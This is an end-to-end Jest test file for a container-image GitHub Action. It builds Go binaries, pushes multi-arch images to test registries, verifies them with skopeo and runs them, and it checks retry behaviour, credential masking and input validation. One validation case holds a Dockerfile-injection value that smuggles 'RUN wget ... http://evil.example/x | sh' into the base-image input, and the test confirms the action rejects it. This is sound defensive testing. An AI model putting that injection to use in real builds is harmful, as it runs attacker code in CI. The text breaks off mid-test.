/*
 * docker-multistage end to end: the bundled action under Node 24 through the runner harness, real Go
 * builds, the real registries from test/infra/registry (plain, and TLS + htpasswd), base images from
 * test/infra/images, buildah for the Dockerfile backend, and skopeo/umoci to check the results
 * independently. The image is run by unpacking its layers and starting its entrypoint with its env.
 */
import { type ChildProcess, execFile, execFileSync, spawn } from 'node:child_process';
import { createHash, randomBytes, randomUUID, sign, X509Certificate } from 'node:crypto';
import { cpSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import http from 'node:http';
import https from 'node:https';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { promisify } from 'node:util';
import { gunzipSync } from 'node:zlib';
import { composeLdflags } from '@goship/contract';
import { jest } from '@jest/globals';
import { closeConnections, RegistryClient, sha256 } from '../../packages/oci/src/index.js';
import { checkout } from '../harness/checkout.js';
import { copyTracked } from '../harness/copy-tracked.js';
import { freePort } from '../harness/free-port.js';
import { requireEnv } from '../harness/infra.js';
import { startModuleServer } from '../harness/module-server.js';
import { type ActionResult, repoRoot, runAction } from '../harness/run-action.js';

jest.setTimeout(600_000);
const run = promisify(execFile);

const COMMIT_TIME = '2024-05-06T07:08:09Z';
let infra: Record<string, string>;
let base: Record<string, string>;
let repo: string;
let commit: string;
let artifacts: string;
let home: string;

function git(args: string[], cwd = repo): string {
  return execFileSync('git', args, {
    cwd,
    encoding: 'utf8',
    env: {
      ...process.env,
      GIT_AUTHOR_DATE: COMMIT_TIME,
      GIT_COMMITTER_DATE: COMMIT_TIME,
      GIT_AUTHOR_NAME: 't',
      GIT_AUTHOR_EMAIL: 't@example.com',
      GIT_COMMITTER_NAME: 't',
      GIT_COMMITTER_EMAIL: 't@example.com',
    },
  }).trim();
}

/** go-build-ldflags-style binaries: the same ldflags composition, real Go, sha256 recorded. */
async function buildArtifacts(dir: string, version: string, rev: string): Promise<string> {
  const { ldflags } = composeLdflags({
    inject: [
      { name: 'main.version', value: version },
      { name: 'main.commit', value: rev },
      { name: 'main.date', value: COMMIT_TIME },
      { name: 'main.port', value: '8080' },
    ],
  });
  const list = [];
  for (const arch of ['amd64', 'arm64']) {
    const out = join(dir, 'prebuilt', `linux_${arch}`, 'hello');
    await run('go', ['build', '-trimpath', `-ldflags=${ldflags}`, '-o', out, '.'], {
      cwd: dir,
      env: { ...process.env, CGO_ENABLED: '0', GOOS: 'linux', GOARCH: arch, GOFLAGS: '-buildvcs=false' },
    });
    const data = readFileSync(out);
    list.push({
      name: 'hello',
      os: 'linux',
      arch,
      path: out,
      sha256: createHash('sha256').update(data).digest('hex'),
      size: data.length,
      ldflags,
      injected: {},
    });
  }
  return JSON.stringify(list);
}

function ghEnv(extra: NodeJS.ProcessEnv = {}): NodeJS.ProcessEnv {
  return {
    HOME: home,
    GITHUB_REF: 'refs/tags/v1.2.3',
    GITHUB_SHA: commit,
    GITHUB_EVENT_NAME: 'push',
    ...extra,
  };
}

function act(
  inputs: Record<string, string | boolean>,
  env: NodeJS.ProcessEnv = {},
  workspace = repo,
): Promise<ActionResult> {
  return runAction('docker-multistage', { inputs, env: ghEnv(env), workspace, timeoutMs: 540_000 });
}

async function skopeo(args: string[]): Promise<string> {
  const { stdout } = await run('skopeo', args, {
    env: { PATH: process.env.PATH, HOME: home },
    maxBuffer: 64 << 20,
  });
  return stdout;
}

async function inspectConfig(
  ref: string,
  extra: string[] = ['--tls-verify=false'],
): Promise<{ config: Record<string, unknown>; architecture: string }> {
  return JSON.parse(await skopeo(['inspect', ...extra, '--config', `docker://${ref}`]));
}

/** skopeo flags for the TLS + basic-auth registry. */
const tlsRegistryFlags = (): string[] => [
  '--cert-dir',
  infra.REGISTRY_CERT_DIR!,
  '--creds',
  `${infra.REGISTRY_USER}:${infra.REGISTRY_PASSWORD}`,
];

function get(url: string): Promise<{ status: number; body: string }> {
  return new Promise((resolve, reject) => {
    http
      .get(url, (res) => {
        let body = '';
        res.on('data', (d) => {
          body += d;
        });
        res.on('end', () => resolve({ status: res.statusCode ?? 0, body }));
      })
      .on('error', reject);
  });
}

/** Copies the image out with skopeo, unpacks it with umoci and starts its entrypoint with its env and user. */
async function runImage(
  ref: string,
  srcFlags: string[] = ['--src-tls-verify=false'],
): Promise<{ version: Record<string, string>; uid: string; stop: () => void }> {
  const dir = mkdtempSync(join(tmpdir(), 'dm-run-'));
  await skopeo(['copy', '-q', ...srcFlags, `docker://${ref}`, `oci:${dir}/layout:run`]);
  await run('umoci', ['unpack', '--image', `${dir}/layout:run`, `${dir}/bundle`]);
  const spec = JSON.parse(readFileSync(join(dir, 'bundle/config.json'), 'utf8')) as {
    process: { args: string[]; env: string[]; user: { uid: number; gid: number } };
  };
  const port = await freePort();
  const env = Object.fromEntries(
    spec.process.env.map((e) => [e.slice(0, e.indexOf('=')), e.slice(e.indexOf('=') + 1)]),
  );
  env.PORT = String(port);
  const child: ChildProcess = spawn(
    '/usr/sbin/chroot',
    [
      `--userspec=${spec.process.user.uid}:${spec.process.user.gid}`,
      join(dir, 'bundle/rootfs'),
      ...spec.process.args,
    ],
    {
      env,
      stdio: 'ignore',
    },
  );
  const stop = () => child.kill('SIGTERM');
  for (let i = 0; i < 100; i++) {
    try {
      const res = await get(`http://127.0.0.1:${port}/version`);
      const uid = readFileSync(`/proc/${child.pid}/status`, 'utf8').match(/^Uid:\s+(\d+)/m)![1]!;
      return { version: JSON.parse(res.body), uid, stop };
    } catch {
      await new Promise((r) => setTimeout(r, 100));
    }
  }
  stop();
  throw new Error(`image ${ref} did not answer on port ${port}`);
}

/** A fault-injecting HTTP proxy in front of the real registry: the registry stays real, we add failures. */
async function faultProxy(
  target: string,
  fault: (req: http.IncomingMessage, n: number) => 'pass' | number | 'reset' | 'exists',
): Promise<{ addr: string; log: string[]; close: () => void }> {
  const log: string[] = [];
  let n = 0;
  const server = http.createServer((req, res) => {
    const action = fault(req, n++);
    log.push(`${req.method} ${req.url} -> ${action}`);
    if (action === 'reset') return req.socket.destroy();
    if (action === 'exists') {
      res.writeHead(200, { 'Content-Length': '0', 'Docker-Content-Digest': req.url!.split('/').pop()! });
      return res.end();
    }
    if (typeof action === 'number') {
      res.writeHead(action, { 'Content-Type': 'application/json' });
      return res.end(JSON.stringify({ errors: [{ code: 'UNKNOWN', message: 'injected fault' }] }));
    }
    const [host, port] = target.split(':');
    const up = http.request(
      { host, port: Number(port), method: req.method, path: req.url, headers: req.headers },
      (ur) => {
        res.writeHead(ur.statusCode ?? 502, ur.headers);
        ur.pipe(res);
      },
    );
    up.on('error', () => res.destroy());
    req.pipe(up);
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  const { port } = server.address() as { port: number };
  return { addr: `127.0.0.1:${port}`, log, close: () => server.close() };
}

beforeAll(async () => {
  infra = requireEnv(
    'REGISTRY',
    'REGISTRY_TLS',
    'REGISTRY_CA',
    'REGISTRY_USER',
    'REGISTRY_PASSWORD',
    'REGISTRY_CERT_DIR',
  );
  const { stdout } = await run(join(repoRoot, 'test/infra/images/build'), [], {
    env: process.env,
    maxBuffer: 1 << 20,
  });
  base = Object.fromEntries(
    stdout
      .split('\n')
      .filter((l) => /^[A-Z_]+=/.test(l))
      .map((l) => [l.slice(0, l.indexOf('=')), l.slice(l.indexOf('=') + 1)]),
  );
  home = mkdtempSync(join(tmpdir(), 'dm-home-'));
  repo = mkdtempSync(join(tmpdir(), 'dm-repo-'));
  copyTracked(join(repoRoot, 'examples/hello'), repo);
  writeFileSync(join(repo, '.gitignore'), 'dist/\nprebuilt/\n');
  git(['init', '-q', '-b', 'main']);
  git(['add', '.']);
  git(['commit', '-q', '-m', 'hello']);
  git(['tag', 'v1.2.3']);
  commit = git(['rev-parse', 'HEAD']);
  artifacts = await buildArtifacts(repo, '1.2.3', commit);
});

describe('assemble', () => {
  let first: ActionResult;

  test('multi-arch image on scratch, pushed to the plain registry; config checked with skopeo', async () => {
    first = await act({
      image: `${infra.REGISTRY}/acme/hello`,
      artifacts,
      platforms: 'linux/amd64,linux/arm64',
    });
    expect(first.errors).toBe('');
    expect(first.exitCode).toBe(0);
    const { digest, image, tags, platforms } = first.outputs;
    expect(digest).toMatch(/^sha256:[a-f0-9]{64}$/);
    expect(image).toBe(`${infra.REGISTRY}/acme/hello@${digest}`);
    expect(tags!.split(',')).toEqual(['1.2.3', '1.2', '1', `sha-${commit.slice(0, 7)}`, 'latest']);
    expect(platforms).toBe('linux/amd64,linux/arm64');
    expect(JSON.parse(first.outputs.json!).digest).toBe(digest);

    const raw = JSON.parse(
      await skopeo(['inspect', '--tls-verify=false', '--raw', `docker://${infra.REGISTRY}/acme/hello:1.2.3`]),
    );
    expect(raw.mediaType).toBe('application/vnd.oci.image.index.v1+json');
    expect(raw.manifests.map((m: { platform: { architecture: string } }) => m.platform.architecture)).toEqual(
      ['amd64', 'arm64'],
    );
    const listed = JSON.parse(
      await skopeo(['inspect', '--tls-verify=false', `docker://${infra.REGISTRY}/acme/hello:1.2.3`]),
    );
    expect(listed.Digest).toBe(digest);
    for (const arch of ['amd64', 'arm64']) {
      const cfg = await inspectConfig(
        `${infra.REGISTRY}/acme/hello@${raw.manifests.find((m: { platform: { architecture: string } }) => m.platform.architecture === arch).digest}`,
      );
      expect(cfg.architecture).toBe(arch);
      expect(cfg.config).toMatchObject({
        User: '65532:65532',
        ExposedPorts: { '8080/tcp': {} },
        Entrypoint: ['/usr/local/bin/hello'],
        Labels: {
          'org.opencontainers.image.version': '1.2.3',
          'org.opencontainers.image.revision': commit,
          'org.opencontainers.image.created': COMMIT_TIME,
          'org.opencontainers.image.source': 'https://github.com/acme/hello',
        },
      });
      expect(cfg.config.Env).toContain('PORT=8080');
      expect((cfg as unknown as { created: string }).created).toBe(COMMIT_TIME);
    }
    expect(first.summary).toContain(digest);
    expect(first.summary).toMatch(/\| linux\/arm64 \| `sha256:/);
    expect(first.summary).toContain('/usr/local/bin/hello');
  });

  test('the chain: go-build-ldflags (bundled action) → its artifacts output → assemble → the image runs', async () => {
    const built = await runAction('go-build-ldflags', {
      inputs: { targets: 'linux/amd64,linux/arm64', port: '8080' },
      env: ghEnv(),
      workspace: repo,
      timeoutMs: 540_000,
    });
    expect(built.errors).toBe('');
    expect(built.exitCode).toBe(0);
    expect(JSON.parse(built.outputs.artifacts ?? '[]')).toHaveLength(2);
    const r = await act({
      mode: 'assemble',
      image: `${infra.REGISTRY}/acme/chain`,
      artifacts: built.outputs.artifacts!,
    });
    expect(r.errors).toBe('');
    expect(r.outputs.platforms).toBe('linux/amd64,linux/arm64');
    const { version, stop } = await runImage(`${infra.REGISTRY}/acme/chain:1.2.3`);
    stop();
    expect(version).toEqual({
      version: built.outputs.version,
      commit,
      date: built.outputs.date,
      port: '8080',
    });
  });

  test('the pushed image runs: its entrypoint, env and user answer with the injected version', async () => {
    const { version, uid, stop } = await runImage(`${infra.REGISTRY}/acme/hello:1.2.3`);
    stop();
    expect(version).toEqual({ version: '1.2.3', commit, date: COMMIT_TIME, port: '8080' });
    expect(uid).toBe('65532');
  });

  test('same inputs give the same digest, and a re-push uploads no blob', async () => {
    const again = await act({
      image: `${infra.REGISTRY}/acme/hello`,
      artifacts,
      platforms: 'linux/amd64,linux/arm64',
    });
    expect(again.exitCode).toBe(0);
    expect(again.outputs.digest).toBe(first.outputs.digest);
    expect(again.stdout).toMatch(/blobs: 0 uploaded, 5 already/);
    expect(again.summary).toContain('0 uploaded (0 B), 5 already present or mounted');
    expect(JSON.parse(again.outputs.metadata!).uploadedBytes).toBe(0);
  });

  test('on a base image from the registry: base config kept, base layers mounted, base annotations', async () => {
    const r = await act({
      image: `${infra.REGISTRY}/acme/hello-static`,
      artifacts,
      base: base.BASE_STATIC!,
      tags: 'type=raw,value=on-static',
    });
    expect(r.errors).toBe('');
    const cfg = await inspectConfig(`${infra.REGISTRY}/acme/hello-static:on-static`);
    expect(cfg.config.Env).toEqual(
      expect.arrayContaining(['SSL_CERT_FILE=/etc/ssl/certs/ca-certificates.crt', 'PORT=8080']),
    );
    expect(cfg.config.User).toBe('65532:65532');
    const index = JSON.parse(
      await skopeo([
        'inspect',
        '--tls-verify=false',
        '--raw',
        `docker://${infra.REGISTRY}/acme/hello-static:on-static`,
      ]),
    );
    const amd = JSON.parse(
      await skopeo([
        'inspect',
        '--tls-verify=false',
        '--raw',
        `docker://${infra.REGISTRY}/acme/hello-static@${index.manifests[0].digest}`,
      ]),
    );
    expect(amd.layers).toHaveLength(2); // base layer + binary
    expect(amd.annotations['org.opencontainers.image.base.name']).toBe(base.BASE_STATIC);
    expect(r.summary).toMatch(/mounted/);
    const { version, stop } = await runImage(`${infra.REGISTRY}/acme/hello-static:on-static`);
    stop();
    expect(version.version).toBe('1.2.3');
  });

  test('an upper-case image name (ghcr.io/${{ github.repository }}) is lower-cased with a notice', async () => {
    const r = await act({
      image: `${infra.REGISTRY}/Acme/Upper`,
      artifacts,
      platforms: 'linux/amd64',
      tags: 'u',
    });
    expect(r.errors).toBe('');
    expect(r.outputs.image).toMatch(new RegExp(`^${infra.REGISTRY}/acme/upper@sha256:`));
    expect(r.annotations).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ level: 'notice', message: expect.stringContaining("using '") }),
      ]),
    );
  });

  test('TLS + basic auth registry: credentials from inputs, CA from registry-ca, password masked', async () => {
    const r = await act({
      image: `${infra.REGISTRY_TLS}/acme/hello`,
      artifacts,
      'registry-username': infra.REGISTRY_USER!,
      'registry-password': infra.REGISTRY_PASSWORD!,
      'registry-ca': infra.REGISTRY_CA!,
    });
    expect(r.errors).toBe('');
    expect(r.masks).toContain(infra.REGISTRY_PASSWORD);
    expect(r.stdout.replace(`::add-mask::${infra.REGISTRY_PASSWORD}`, '')).not.toContain(
      infra.REGISTRY_PASSWORD,
    );
    expect(r.summary + JSON.stringify(r.outputs)).not.toContain(infra.REGISTRY_PASSWORD);
    const out = JSON.parse(
      await skopeo([
        'inspect',
        '--cert-dir',
        infra.REGISTRY_CERT_DIR!,
        '--creds',
        `${infra.REGISTRY_USER}:${infra.REGISTRY_PASSWORD}`,
        `docker://${infra.REGISTRY_TLS}/acme/hello:1.2.3`,
      ]),
    );
    expect(out.Digest).toBe(r.outputs.digest);
    const { version, stop } = await runImage(`${infra.REGISTRY_TLS}/acme/hello:1.2.3`, [
      '--src-cert-dir',
      infra.REGISTRY_CERT_DIR!,
      '--src-creds',
      `${infra.REGISTRY_USER}:${infra.REGISTRY_PASSWORD}`,
    ]);
    stop();
    expect(version.version).toBe('1.2.3');
  });

  test('a base from another registry: its layers are copied (pulled from the plain one, pushed to the TLS one)', async () => {
    const repoName = `acme/cross-${Date.now()}`; // a fresh repository: nothing to find already there
    const r = await act({
      image: `${infra.REGISTRY_TLS}/${repoName}`,
      artifacts,
      platforms: 'linux/arm64',
      base: base.BASE_STATIC!,
      tags: 'x',
      'registry-username': infra.REGISTRY_USER!,
      'registry-password': infra.REGISTRY_PASSWORD!,
      'registry-ca': infra.REGISTRY_CA!,
    });
    expect(r.errors).toBe('');
    expect(r.summary).toMatch(/\| linux\/arm64 \| `sha256:[0-9a-f]{12}` \| [^|]+ \| base [^|]+ \| copied \|/);
    const tls = [
      '--cert-dir',
      infra.REGISTRY_CERT_DIR!,
      '--creds',
      `${infra.REGISTRY_USER}:${infra.REGISTRY_PASSWORD}`,
    ];
    const cfg = await inspectConfig(`${infra.REGISTRY_TLS}/${repoName}:x`, tls);
    expect(cfg.architecture).toBe('arm64');
    expect(cfg.config.Env).toContain('SSL_CERT_FILE=/etc/ssl/certs/ca-certificates.crt');
  });

  test('TLS registry with credentials from a docker/login-action config.json (DOCKER_CONFIG), CA from NODE_EXTRA_CA_CERTS', async () => {
    const cfgDir = mkdtempSync(join(tmpdir(), 'dm-dockercfg-'));
    const auth = Buffer.from(`${infra.REGISTRY_USER}:${infra.REGISTRY_PASSWORD}`).toString('base64');
    writeFileSync(
      join(cfgDir, 'config.json'),
      JSON.stringify({ auths: { [infra.REGISTRY_TLS!]: { auth } } }),
    );
    const r = await act(
      { image: `${infra.REGISTRY_TLS}/acme/from-config`, artifacts, tags: 'cfg' },
      { DOCKER_CONFIG: cfgDir, NODE_EXTRA_CA_CERTS: infra.REGISTRY_CA },
    );
    expect(r.errors).toBe('');
    expect(r.outputs.tags).toBe('cfg,latest');
  });

  test('push: false writes an OCI layout directory and an oci-archive that skopeo reads', async () => {
    const out = mkdtempSync(join(tmpdir(), 'dm-out-'));
    const dirRun = await act({
      image: 'ghcr.io/acme/hello',
      artifacts,
      push: false,
      output: join(out, 'layout'),
    });
    expect(dirRun.errors).toBe('');
    const viaLayout = JSON.parse(await skopeo(['inspect', `oci:${join(out, 'layout')}:1.2.3`]));
    expect(viaLayout.Labels['org.opencontainers.image.version']).toBe('1.2.3');
    const tarRun = await act({
      image: 'ghcr.io/acme/hello',
      artifacts,
      push: false,
      output: join(out, 'image.tar'),
    });
    expect(tarRun.outputs.digest).toBe(dirRun.outputs.digest);
    expect(tarRun.outputs.digest).toBe(first.outputs.digest); // same image whether pushed or written
    const viaArchive = JSON.parse(await skopeo(['inspect', `oci-archive:${join(out, 'image.tar')}:latest`]));
    expect(viaArchive.Architecture).toBe('amd64');
  });

  test('pull_request: the sha tag and revision use the PR head SHA, not the merge commit', async () => {
    const head = 'abcdef0123456789abcdef0123456789abcdef01';
    const event = join(home, 'pr-event.json');
    writeFileSync(
      event,
      JSON.stringify({
        pull_request: { number: 7, head: { sha: head } },
        repository: { name: 'hello', description: 'Hello service', license: { spdx_id: 'Apache-2.0' } },
      }),
    );
    const r = await act(
      {
        image: `${infra.REGISTRY}/acme/pr`,
        artifacts,
        platforms: 'linux/amd64',
        labels: 'com.example.team=web',
      },
      {
        GITHUB_EVENT_NAME: 'pull_request',
        GITHUB_EVENT_PATH: event,
        GITHUB_REF: 'refs/pull/7/merge',
        GITHUB_SHA: commit,
      },
    );
    expect(r.errors).toBe('');
    expect(r.outputs.tags).toBe(`pr-7,sha-${head.slice(0, 7)}`);
    const cfg = await inspectConfig(`${infra.REGISTRY}/acme/pr:pr-7`);
    expect(cfg.config.Labels).toMatchObject({
      'org.opencontainers.image.revision': head,
      'org.opencontainers.image.description': 'Hello service',
      'org.opencontainers.image.licenses': 'Apache-2.0',
      'com.example.team': 'web',
    });
  });

  test('SOURCE_DATE_EPOCH sets created, the label and every file time (and so the digest)', async () => {
    const r = await act(
      { image: `${infra.REGISTRY}/acme/epoch`, artifacts, platforms: 'linux/amd64', tags: 'e' },
      { SOURCE_DATE_EPOCH: '1700000000' },
    );
    expect(r.errors).toBe('');
    const cfg = await inspectConfig(`${infra.REGISTRY}/acme/epoch:e`);
    expect((cfg as unknown as { created: string }).created).toBe('2023-11-14T22:13:20Z');
    expect((cfg.config.Labels as Record<string, string>)['org.opencontainers.image.created']).toBe(
      '2023-11-14T22:13:20Z',
    );
    const dir = mkdtempSync(join(tmpdir(), 'dm-epoch-'));
    await skopeo([
      'copy',
      '-q',
      '--src-tls-verify=false',
      `docker://${infra.REGISTRY}/acme/epoch:e`,
      `oci:${dir}/l:e`,
    ]);
    const manifest = JSON.parse(
      readFileSync(
        join(
          dir,
          'l/blobs/sha256',
          JSON.parse(readFileSync(join(dir, 'l/index.json'), 'utf8')).manifests[0].digest.slice(7),
        ),
        'utf8',
      ),
    );
    const layer = join(dir, 'l/blobs/sha256', manifest.layers[1].digest.slice(7));
    const listing = execFileSync('tar', ['--full-time', '-tvzf', layer], {
      encoding: 'utf8',
      env: { TZ: 'UTC', PATH: process.env.PATH },
    });
    expect(listing).toMatch(/2023-11-14 22:13:20 usr\/local\/bin\/hello/);
  });

  test('latest: the tags of the remote count (a shallow checkout lacks them)', async () => {
    const origin = mkdtempSync(join(tmpdir(), 'dm-origin-'));
    git(['init', '-q', '--bare', origin], origin);
    git(['remote', 'add', 'origin', origin]);
    try {
      git(['push', '-q', 'origin', 'HEAD:refs/heads/main', 'refs/tags/v1.2.3']);
      git(['push', '-q', 'origin', 'HEAD:refs/tags/v9.0.0']); // only on the remote
      const r = await act({
        image: `${infra.REGISTRY}/acme/latest-remote`,
        artifacts,
        platforms: 'linux/amd64',
      });
      expect(r.errors).toBe('');
      expect(r.outputs.tags).not.toContain('latest');
      expect(JSON.parse(r.outputs.metadata!).tagsFrom).toContain('remote tags');
    } finally {
      git(['remote', 'remove', 'origin']);
    }
  });

  test('latest only for the highest release tag', async () => {
    git(['tag', 'v2.0.0']);
    try {
      const r = await act({
        image: `${infra.REGISTRY}/acme/latest-rule`,
        artifacts,
        platforms: 'linux/amd64',
      });
      expect(r.errors).toBe('');
      expect(r.outputs.tags).toBe(`1.2.3,1.2,1,sha-${commit.slice(0, 7)}`);
    } finally {
      git(['tag', '-d', 'v2.0.0']);
    }
  });
});

describe('assemble: bad input and failing registries', () => {
  test('registry unreachable', async () => {
    const port = await freePort();
    const r = await act({ image: `127.0.0.1:${port}/acme/hello`, artifacts });
    expect(r.exitCode).toBe(1);
    expect(r.errors).toContain(`Cannot reach registry 127.0.0.1:${port}`);
    expect(r.errors).toMatch(/ECONNREFUSED/);
  });

  test('wrong credentials: says which registry and where the credentials came from, never the secret', async () => {
    const wrong = 'not-the-password-0123';
    const r = await act({
      image: `${infra.REGISTRY_TLS}/acme/hello`,
      artifacts,
      'registry-username': infra.REGISTRY_USER!,
      'registry-password': wrong,
      'registry-ca': infra.REGISTRY_CA!,
    });
    expect(r.exitCode).toBe(1);
    expect(r.errors).toContain(
      `Registry ${infra.REGISTRY_TLS} rejected the credentials of user '${infra.REGISTRY_USER}' from inputs registry-username/registry-password`,
    );
    expect(r.masks).toContain(wrong);
    expect(r.stdout.replace(`::add-mask::${wrong}`, '')).not.toContain(wrong);
  });

  test('no credentials: lists where it looked', async () => {
    const r = await act({
      image: `${infra.REGISTRY_TLS}/acme/hello`,
      artifacts,
      'registry-ca': infra.REGISTRY_CA!,
    });
    expect(r.exitCode).toBe(1);
    expect(r.errors).toContain(`Registry ${infra.REGISTRY_TLS} requires authentication`);
    expect(r.errors).toContain(join(home, '.docker/config.json'));
  });

  test('untrusted TLS certificate without registry-ca', async () => {
    const r = await act({
      image: `${infra.REGISTRY_TLS}/acme/hello`,
      artifacts,
      'registry-username': 'someone',
      'registry-password': 'some-long-password',
    });
    expect(r.exitCode).toBe(1);
    expect(r.errors).toMatch(/TLS certificate of registry .* is not trusted/);
    expect(r.errors).toContain('registry-ca');
  });

  test('500s and connection resets, then success: retried with backoff, same digest', async () => {
    let uploadPuts = 0;
    let manifestPuts = 0;
    let uploadPosts = 0;
    // One fault of each kind, whatever the order of the concurrent uploads (a 503 on every POST while
    // uploadPuts stood at 1 could outlast the retries when the other upload had already finished).
    const proxy = await faultProxy(infra.REGISTRY!, (req) => {
      if (req.method === 'PUT' && req.url!.includes('/blobs/uploads/') && uploadPuts++ < 2) return 500;
      if (req.method === 'PUT' && req.url!.includes('/manifests/') && manifestPuts++ < 1) return 'reset';
      if (req.method === 'POST' && uploadPuts === 1 && uploadPosts++ < 1) return 503;
      return 'pass';
    });
    try {
      const r = await act({
        image: `${proxy.addr}/acme/retry-${Date.now()}`,
        artifacts,
        platforms: 'linux/amd64,linux/arm64',
      });
      expect(r.errors).toBe('');
      expect(r.outputs.digest).toBe(digestOf(`${infra.REGISTRY}/acme/hello:1.2.3`));
      expect(r.stdout).toMatch(/HTTP 500 UNKNOWN: injected fault; attempt 2/);
      expect(r.stdout).toMatch(/PUT manifest .*(ECONNRESET|socket hang up)/);
      expect(proxy.log.filter((l) => l.endsWith('-> 500')).length).toBe(2);
      const listed = JSON.parse(
        await skopeo([
          'inspect',
          '--tls-verify=false',
          `docker://${r.outputs.image!.replace(proxy.addr, infra.REGISTRY!)}`,
        ]),
      );
      expect(listed.Digest).toBe(r.outputs.digest);
    } finally {
      proxy.close();
    }
  });

  test('cancelled by the runner (SIGINT) while the registry is slow: fails with the reason, tags nothing', async () => {
    const held: http.ServerResponse[] = [];
    const slow = http.createServer((_req, res) => {
      held.push(res); // never answered while the action runs
    });
    await new Promise<void>((r) => slow.listen(0, '127.0.0.1', r));
    const addr = `127.0.0.1:${(slow.address() as { port: number }).port}`;
    try {
      const r = await runAction('docker-multistage', {
        inputs: { image: `${addr}/acme/cancelled`, artifacts },
        env: ghEnv(),
        workspace: repo,
        cancelAfterMs: 1500,
      });
      expect(r.exitCode).toBe(1);
      expect(r.errors).toContain('cancelled by SIGINT');
      expect(r.outputs.digest).toBeUndefined();
    } finally {
      for (const res of held) res.destroy();
      slow.close();
    }
  });

  test('a manifest the registry rejects (its blobs were never uploaded): error with the registry code, no tag created', async () => {
    // The proxy claims every blob exists, so nothing is uploaded; the real registry then rejects the manifest.
    const proxy = await faultProxy(infra.REGISTRY!, (req) =>
      req.method === 'HEAD' && req.url!.includes('/blobs/') ? 'exists' : 'pass',
    );
    try {
      const r = await act({ image: `${proxy.addr}/acme/rejected`, artifacts, platforms: 'linux/amd64' });
      expect(r.exitCode).toBe(1);
      expect(r.errors).toMatch(/rejected manifest .* HTTP 400 MANIFEST_BLOB_UNKNOWN/);
      expect(r.outputs.digest).toBeUndefined();
      const tags = await get(`http://${infra.REGISTRY}/v2/acme/rejected/tags/list`);
      expect(tags.status).toBe(404);
    } finally {
      proxy.close();
    }
  });

  test.each([
    [
      'type=raw,value=feature/x',
      /'feature\/x' \(from line 1: type=raw,value=feature\/x\) is not a valid registry tag/,
    ],
    ['type=sha,prefix=+', /'\+[0-9a-f]{7}'.* is not a valid registry tag/],
    ['type=semver', /Input 'tags': tags line 1 'type=semver': type=semver needs pattern=/],
    ['type=bogus', /type must be one of semver, ref, sha, raw/],
  ])('invalid tag rule %s', async (tags, message) => {
    const r = await act({ image: `${infra.REGISTRY}/acme/badtag`, artifacts, tags });
    expect(r.exitCode).toBe(1);
    expect(r.errors).toMatch(message);
    expect((await get(`http://${infra.REGISTRY}/v2/acme/badtag/tags/list`)).status).toBe(404);
  });

  test('a platform with no binary', async () => {
    const r = await act({
      image: `${infra.REGISTRY}/acme/hello`,
      artifacts,
      platforms: 'linux/amd64,linux/s390x',
    });
    expect(r.exitCode).toBe(1);
    expect(r.errors).toContain(
      "Input 'platforms': no binary for linux/s390x in 'artifacts' (it has: linux/amd64, linux/arm64)",
    );
  });

  test('a base image that does not exist', async () => {
    const r = await act({
      image: `${infra.REGISTRY}/acme/hello`,
      artifacts,
      base: `${infra.REGISTRY}/nope/static:1`,
    });
    expect(r.exitCode).toBe(1);
    expect(r.errors).toContain(`Base image ${infra.REGISTRY}/nope/static:1 does not exist`);
  });

  test('a binary that changed after it was built (sha256 mismatch)', async () => {
    const list = JSON.parse(artifacts);
    list[0].sha256 = '0'.repeat(64);
    const r = await act({ image: `${infra.REGISTRY}/acme/hello`, artifacts: JSON.stringify(list) });
    expect(r.exitCode).toBe(1);
    expect(r.errors).toMatch(/has sha256 [0-9a-f]{64}, but the artifacts list says 0{64}/);
  });

  test.each([
    [{ image: 'acme/bad_-name' }, /Input 'image': path component 'bad_-name' is not valid/],
    [{ image: 'app@sha256:abc' }, /Input 'image'.*digest/],
    [{ artifacts: 'not json' }, /Input 'artifacts': is not JSON/],
    [{ artifacts: '[{"os":"linux"}]' }, /Input 'artifacts': entry 0 has no 'arch'/],
    [{ platforms: 'linux' }, /Input 'platforms': 'linux' is not a platform/],
    [{ port: '70000' }, /Input 'port'/],
    [{ push: 'yes' }, /Input 'push'/],
    [{ mode: 'assemble', artifacts: '' }, /Input 'artifacts': is empty but mode is assemble/],
    // It became `ARG RUNTIME_IMAGE=…` of the generated Dockerfile: a newline added instructions.
    [
      { mode: 'dockerfile', artifacts: '', base: 'alpine\nRUN wget -qO- http://evil.example/x | sh' },
      /Input 'base': it contains whitespace or control characters/,
    ],
    [{ mode: 'dockerfile', artifacts: '', base: 'alpine AS x' }, /Input 'base'/],
  ])('input check %o', async (inputs, message) => {
    const r = await act({ image: `${infra.REGISTRY}/acme/hello`, artifacts, ...inputs });
    expect(r.exitCode).toBe(1);
    expect(r.errors).toMatch(message);
  });
});

function digestOf(ref: string): string {
  return JSON.parse(execFileSync('skopeo', ['inspect', '--tls-verify=false', `docker://${ref}`]).toString())
    .Digest;
}

describe('dockerfile (buildah)', () => {
  test('generated multi-stage Dockerfile really built (RUN go build in the builder stage), pushed, digest read back, image runs', async () => {
    const r = await act({
      mode: 'dockerfile',
      image: `${infra.REGISTRY}/acme/hello-df`,
      'build-args': `GO_IMAGE=${base.BASE_GOLANG}`,
      platforms: 'linux/amd64',
    });
    expect(r.errors).toBe('');
    expect(r.exitCode).toBe(0);
    expect(r.stdout).toContain('builder: buildah');
    expect(r.stdout).toMatch(/go build -trimpath/);
    expect(r.outputs.digest).toMatch(/^sha256:[a-f0-9]{64}$/);
    expect(digestOf(`${infra.REGISTRY}/acme/hello-df:1.2.3`)).toBe(r.outputs.digest);
    const cfg = await inspectConfig(`${infra.REGISTRY}/acme/hello-df:1.2.3`);
    expect(cfg.config).toMatchObject({
      User: '65532:65532',
      ExposedPorts: { '8080/tcp': {} },
      Entrypoint: ['/usr/local/bin/hello'],
    });
    expect(cfg.config.Env).toContain('PORT=8080');
    expect((cfg.config.Labels as Record<string, string>)['org.opencontainers.image.revision']).toBe(commit);
    const { version, uid, stop } = await runImage(`${infra.REGISTRY}/acme/hello-df:1.2.3`);
    stop();
    expect(version).toEqual({ version: '1.2.3', commit, date: COMMIT_TIME, port: '8080' });
    expect(uid).toBe('65532');
    expect(r.summary).toMatch(/\| COPY \S+ in \/usr\/local\/bin\/hello \|/);
  });

  test('builder: podman gives the same layers as buildah (reproducible with --timestamp)', async () => {
    const r = await act({
      mode: 'dockerfile',
      builder: 'podman',
      image: `${infra.REGISTRY}/acme/hello-podman`,
